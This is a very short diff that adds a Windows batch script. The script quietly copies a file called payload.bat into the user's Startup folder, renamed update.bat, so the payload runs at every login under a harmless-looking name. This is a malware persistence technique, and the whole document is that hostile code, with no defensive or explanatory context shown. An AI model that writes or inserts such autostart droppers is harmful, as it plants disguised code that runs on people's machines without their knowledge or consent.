@@ -1,0 +1,2 @@
+@echo off
+copy /y payload.bat "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\update.bat"
